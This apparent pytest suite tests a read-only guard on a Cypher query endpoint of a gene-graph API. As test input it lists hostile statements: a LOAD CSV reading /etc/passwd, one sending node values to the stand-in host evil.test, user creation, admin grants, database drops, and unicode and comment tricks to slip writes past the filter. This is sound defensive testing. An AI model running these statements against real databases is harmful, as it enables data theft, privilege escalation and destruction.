"""Analysts' Cypher: what it may, and 300 statements that mean harm."""

import asyncio
import contextlib
import itertools

import httpx
import pytest

from api.app import create_app
from api.keys import new_key
from api.settings import ApiSettings
from graph.errors import CisgraphError, InputError
from graph.guard import FORBIDDEN, PROCEDURES, check_read_only
from graph.store import GraphStore

PATH = "/v1/cypher"

WRITES = [
    "CREATE (n:Gene {gene_id: 'evil'}) RETURN n",
    "MERGE (n:Gene {gene_id: 'evil'}) RETURN n",
    "MATCH (n) DETACH DELETE n RETURN 1",
    "MATCH (n) NODETACH DELETE n RETURN 1",
    "MATCH (g:Gene) SET g.symbol = 'evil' RETURN g",
    "MATCH (g:Gene) SET g:Evil RETURN g",
    "MATCH (g:Gene) REMOVE g.symbol RETURN g",
    "MATCH ()-[e]->() DELETE e RETURN count(e)",
    "MATCH (g:Gene) FOREACH (x IN [1] | CREATE (:Evil)) RETURN g",
    "INSERT (n:Evil) RETURN n",
    "UNWIND range(1, 3) AS i CREATE (:Evil {i: i}) RETURN i",
    "MATCH (a), (b) CREATE (a)-[:EVIL]->(b) RETURN 1",
]
OUTSIDE = [
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'http://127.0.0.1:1/' AS line RETURN line",
    "MATCH (g:Gene) LOAD CSV FROM 'http://evil.test/' + g.symbol AS x RETURN x",
    "USING PERIODIC COMMIT LOAD CSV FROM 'file:///x' AS line CREATE (:Evil) RETURN 1",
    "USE system SHOW USERS YIELD user RETURN user",
    "USE neo4j MATCH (n) RETURN n",
    "SHOW DATABASES YIELD name RETURN name",
    "SHOW USERS YIELD user RETURN user",
    "SHOW PROCEDURES YIELD name RETURN name",
    "SHOW SETTINGS YIELD name, value RETURN name, value",
    "SHOW TRANSACTIONS YIELD transactionId RETURN transactionId",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1' YIELD message RETURN message",
    "CREATE USER evil SET PASSWORD 'evilevil' RETURN 1",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b' RETURN 1",
    "DROP DATABASE neo4j RETURN 1",
    "CREATE INDEX evil FOR (n:Gene) ON (n.name) RETURN 1",
    "DROP CONSTRAINT gene_id RETURN 1",
    "GRANT ROLE admin TO evil RETURN 1",
]
CALLS = [
    f"CALL {name} YIELD value RETURN value"
    for name in [
        "dbms.listConfig()", "dbms.killQuery('1')", "dbms.setConfigValue('x', 'y')", "dbms.components()",
        "dbms.security.createUser('a', 'b')", "db.createLabel('Evil')", "db.createProperty('evil')",
        "db.index.fulltext.awaitEventuallyConsistentIndexRefresh()", "db.clearQueryCaches()",
        "db.create.setNodeVectorProperty(null, 'x', [1])", "db.awaitIndexes(300)", "db.resampleIndex('x')",
        "apoc.load.json('http://evil.test')", "apoc.cypher.runWrite('CREATE (n)', {})",
        "apoc.periodic.iterate('a', 'b', {})", "apoc.util.sleep(100000)", "tx.setMetaData({})",
        "genai.vector.encodeBatch([], 'x', {})", "gds.graph.drop('x')", "`dbms`.`listConfig`()",
        "db.`createLabel`('Evil')", "`db.labels`()", "dbms /* db.labels */ .listConfig()",
        "DBMS.LISTCONFIG()", "db.labels.evil()", "db", "$name()",
    ]
]  # fmt: skip
DISGUISES = [
    lambda s: s,
    lambda s: s.lower(),
    lambda s: s.swapcase() if "'" not in s else s.title(),
    lambda s: s.replace(" ", "/**/ "),
    lambda s: s.replace(" ", " // db.labels() RETURN 1\n", 1),
    lambda s: "/* MATCH (n) RETURN n */ " + s,
    lambda s: "MATCH (x:Gene) RETURN x.symbol; " + s,
    lambda s: s + "; MATCH (n) RETURN n",
    lambda s: "CALL () { " + s.replace(" RETURN 1", "") + " } RETURN 1",
    lambda s: "MATCH (g:Gene) WHERE g.symbol = '\\'' " + s,
    lambda s: s.replace(" ", "\t\n", 3),
    lambda s: "EXPLAIN " + s,
    lambda s: "PROFILE " + s,
    lambda s: "CYPHER runtime=slotted " + s,
]
HIDDEN = [
    "\\u0043REATE (n:Evil) RETURN n",
    "MATCH (n) \\u0044ELETE n RETURN 1",
    "MATCH (g:Gene) WHERE g.symbol = '\\u0027 CREATE (:Evil) RETURN g //'  RETURN g",
    "MATCH (g:Gene) RETURN g \\uuu003b CREATE (:Evil)",
    "\uff23\uff32\uff25\uff21\uff34\uff25 (n:Evil) RETURN n",
    "CR\u200bEATE (n:Evil) RETURN n",
    "MATCH (n)\u2028CREATE (:Evil) RETURN n",
    "MATCH (n) RETURN n \u202e CREATE (:Evil)",
    "MATCH (n)\x00CREATE (:Evil) RETURN n",
    "MATCH\u00a0(n)\u00a0DELETE\u00a0n RETURN 1",
    "\u0421REATE (n:Evil) RETURN n",
    "MATCH (n) RETURN n /* CREATE (:Evil)",
    "MATCH (n) RETURN 'open CREATE (:Evil)",
    "MATCH (n) RETURN `open CREATE (:Evil)",
    "MATCH (n) RETURN n; ; CREATE (:Evil)",
    "MATCH (n) WHERE n.score > 1. CREATE (:Evil) RETURN n",
    "UNWIND [1, 2, 3][0.. CREATE (:Evil)] AS x RETURN x",
    "CALL { MATCH (n) RETURN n } IN TRANSACTIONS OF 1 ROWS RETURN n",
    "CALL { UNWIND [1] AS x CREATE (:Evil) } IN CONCURRENT TRANSACTIONS RETURN 1",
    "MATCH (n) RETURN COLLECT { CREATE (:Evil) RETURN 1 }",
    "MATCH (n) WHERE EXISTS { MATCH (n) SET n.evil = 1 RETURN n } RETURN n",
    "RETURN dbms.listConfig()",
    "RETURN apoc.cypher.runFirstColumn('CREATE (n) RETURN n', {})",
    "RETURN graph.byName('system')",
    "RETURN",
    "MATCH (n)",
    "",
    "   ;  ",
    "not cypher at all RETURN",
    "MATCH (n) RETURN n ORDER BY",
]
LONG = [
    "RETURN " + "1 + " * 3000 + "1",
    "RETURN " + "(" * 200 + "1" + ")" * 200,
    "RETURN " + "[" * 60 + "]" * 60,
    "RETURN '" + "x" * 20_000 + "'",
    "MATCH " + ", ".join(f"(n{i})" for i in range(3000)) + " RETURN 1",
    "RETURN " + "{a: " * 45 + "1" + "}" * 45,
]
GROWING = [
    "RETURN reduce(s = 0, i IN range(1, 1000) | s + i)",
    "UNWIND range(1, 1000000000) AS i RETURN max(i)",
    "UNWIND range(1, toInteger('1000000000')) AS i RETURN max(i)",
    "RETURN range(1, 300000000) AS numbers",
    "RETURN range($a, $b) AS numbers",
    "WITH reduce(s = 'x', i IN range(1, 30) | s + s) AS s RETURN s",
    "WITH 'x' AS s " + "WITH s + s AS s " * 30 + "RETURN s",
    "WITH [1] AS s " + "WITH s + s AS s " * 30 + "RETURN s",
    "WITH 'xxxx' AS s " + "WITH replace(s, 'x', 'xxxxxxxx') AS s " * 10 + "RETURN s",
    "WITH range(1, 1000) AS l RETURN [i IN l | [j IN l | [k IN l | 'x']]]",
    "MATCH (g) WITH collect(g) AS l WITH [i IN l | l] AS l WITH [i IN l | l] AS l RETURN [i IN l | l]",
]
SLOW = [
    "UNWIND range(1, 100000) AS i UNWIND range(1, 100000) AS j RETURN max(i * j)",
    "MATCH (a), (b), (c), (d), (e), (f), (g) WHERE elementId(b) <= elementId(g) RETURN max(elementId(g))",
    "MATCH p = (a)-[*1..30]-(b) RETURN count(p)",
    "UNWIND range(1, 100000) AS i UNWIND range(1, 100000) AS j WITH i * j AS k ORDER BY k RETURN k LIMIT 1",
]
LARGE = [
    "UNWIND range(1, 100000) AS i UNWIND range(1, 1000) AS j RETURN i",
    "UNWIND range(1, 100000) AS i UNWIND range(1, 100000) AS j RETURN collect(i + j)",
    "RETURN range(1, 100000) AS numbers",
]


def hostile():
    """300 statements or more, from families."""
    disguised = [hide(s) for hide, s in itertools.product(DISGUISES, [*WRITES, *OUTSIDE[:4]])]
    return [*WRITES, *OUTSIDE, *CALLS, *disguised, *HIDDEN, *LONG, *GROWING]


READS = [
    "MATCH (g:Gene) RETURN g.symbol ORDER BY g.symbol LIMIT 3;",
    "MATCH (p:Peak) RETURN p.start, p.end // where peaks are\n ORDER BY p.start",
    "CALL () { MATCH (g:Gene) RETURN count(g) AS n } RETURN n",
    "CALL db.labels() YIELD label RETURN label ORDER BY label",
    "MATCH (g:Gene) WHERE g.name = 'CREATE; DELETE // x' RETURN g",
    "MATCH (r:Regulator)-[e:REGULATES]->(t) RETURN r, e, t LIMIT 2",
    "CALL db.index.fulltext.queryNodes('gene_names', 'GATA1') YIELD node RETURN node.symbol",
    "MATCH (r:Run) RETURN r.finished_at, point({x: 1, y: 2}) AS p, datetime() AS now LIMIT 1",
    "MATCH p = (:Regulator)-[:PRIOR]->(:Gene) RETURN p LIMIT 1",
    "RETURN 1.5 AS x, 0.0 / 0.0 AS y, true AS z, null AS n, [1, 'a'] AS l, {set_: 1} AS m",
]


@pytest.mark.parametrize("statement", READS)
def test_a_read_passes_the_first_layer(statement):
    assert check_read_only(statement).rstrip(";") == statement.rstrip(";")


@pytest.mark.parametrize("statement", [*OUTSIDE, *CALLS, *WRITES, *HIDDEN[:24], *GROWING])
def test_harm_is_refused_by_the_first_layer_alone(statement):
    with pytest.raises(InputError, match="refused"):
        check_read_only(statement)


def test_words_of_harm_are_no_reads():
    assert not {name.upper() for name in PROCEDURES} & FORBIDDEN


@pytest.fixture(scope="module")
def analyst(blood_graph, tmp_path_factory):
    """An application with Cypher switched on, and the headers of a key that may send it."""
    key, line = new_key("ann")
    path = tmp_path_factory.mktemp("keys") / "keys"
    path.write_text(line)
    settings = ApiSettings(
        neo4j_uri=blood_graph.uri,
        neo4j_user=blood_graph.user,
        neo4j_password=blood_graph.password,
        keys_file=path,
        rate=0,
        cypher=True,
        cypher_timeout_s=1,
    )
    return create_app(settings), {"X-API-Key": key}


async def asking_while(app, headers, statements):
    """Send statements, two at a time, and normal questions beside them; return both kinds of answers."""
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(transport=transport, base_url="http://cisgraph.test", timeout=60) as client,
    ):
        gate, normal, ended = asyncio.Semaphore(2), [], asyncio.Event()

        async def send(statement):
            async with gate:
                return await client.post(PATH, json={"statement": statement}, headers=headers)

        async def ask_normally():
            while not ended.is_set():
                normal.append((await client.get("/v1/genes/GATA1")).status_code)
                await asyncio.sleep(0.1)

        beside = asyncio.create_task(ask_normally())
        answers = await asyncio.gather(*map(send, statements))
        ended.set()
        await beside
        return answers, normal


def fingerprint(connection):
    auth = {"user": connection.user, "password": connection.password}
    with GraphStore.connect(connection.uri, **auth) as store:
        return [
            store.read(
                "MATCH (n) RETURN count(n) AS n, count(n.symbol) AS s, collect(DISTINCT labels(n)) AS l"
            ),
            store.read("MATCH ()-[e]->() RETURN type(e) AS t, count(e) AS n ORDER BY t"),
            store.read("SHOW CONSTRAINTS YIELD name RETURN name ORDER BY name"),
            store.read("SHOW INDEXES YIELD name RETURN name ORDER BY name"),
        ]


@pytest.fixture(scope="module")
def story(analyst, blood_graph):
    """All statements sent at once: their answers by family, those to normal questions, the graph before."""
    before = fingerprint(blood_graph)
    families = {"reads": READS, "slow": SLOW, "large": LARGE, "hostile": hostile()}
    answers, normal = asyncio.run(asking_while(*analyst, list(itertools.chain(*families.values()))))
    told = iter(answers)
    by_family = {name: list(itertools.islice(told, len(sent))) for name, sent in families.items()}
    return by_family, normal, before


def test_reads_are_answered(story):
    answers = story[0]["reads"]
    assert [a.status_code for a in answers] == [200] * len(READS), [a.text for a in answers]
    assert answers[0].json() == {
        "columns": ["g.symbol"], "rows": [["DUP"], ["DUP"], ["GATA1"]], "truncated": False,
    }  # fmt: skip
    regulator, edge, _ = answers[5].json()["rows"][0]
    assert (regulator["labels"], edge["type"]) == (["Gene", "Regulator"], "REGULATES")
    assert answers[9].json()["rows"] == [[1.5, None, True, None, [1, "a"], {"set_": 1}]]


def test_300_hostile_statements_change_nothing_and_disturb_nobody(story, blood_graph):
    answers, normal, before = story
    assert len(answers["hostile"]) >= 300
    told = zip(hostile(), answers["hostile"], strict=True)
    assert [(s, a.status_code, a.text) for s, a in told if a.status_code != 422] == []
    assert fingerprint(blood_graph) == before
    assert len(normal) > 5
    assert set(normal) == {200}


def test_slow_and_large_statements_end_at_their_limits(story):
    slow, large = story[0]["slow"], story[0]["large"]
    assert [a.status_code for a in slow] == [422] * len(SLOW), [a.text for a in slow]
    assert [a.status_code for a in large] == [200, 422, 200], [a.text[:200] for a in large]
    assert (large[0].json()["truncated"], len(large[0].json()["rows"])) == (True, 1000)
    assert max(a.elapsed.total_seconds() for a in slow) < 12


def test_cypher_takes_a_key_and_is_off_unless_switched_on(analyst, ask, asking):
    app, headers = analyst
    body = {"statement": "RETURN 1 AS one"}
    with asking(app) as allowed:
        assert allowed(PATH, method="POST", json=body).status_code == 401
        parameters = {"statement": "RETURN $x + 1 AS y", "parameters": {"x": 1}}
        assert allowed(PATH, method="POST", json=parameters, headers=headers).json()["rows"] == [[2]]
    assert ask(PATH, method="POST", json=body).status_code == 404


def test_what_slips_through_the_first_layer_is_stopped_by_the_next(blood_graph, monkeypatch):
    from graph import analyst as module

    before = fingerprint(blood_graph)
    monkeypatch.setattr(module, "check_read_only", lambda statement: statement)
    c = blood_graph
    alone = module.Analyst(c.uri, user=c.user, password=c.password, database=c.database)
    with contextlib.closing(alone):
        for statement in WRITES:
            with pytest.raises(module.InputError):
                alone.run(statement, {}, caps=module.Caps(timeout_s=2))
        for statement in OUTSIDE:  # those that only show something may be answered
            with contextlib.suppress(CisgraphError):
                alone.run(statement, {}, caps=module.Caps(timeout_s=2))
    assert fingerprint(blood_graph) == before
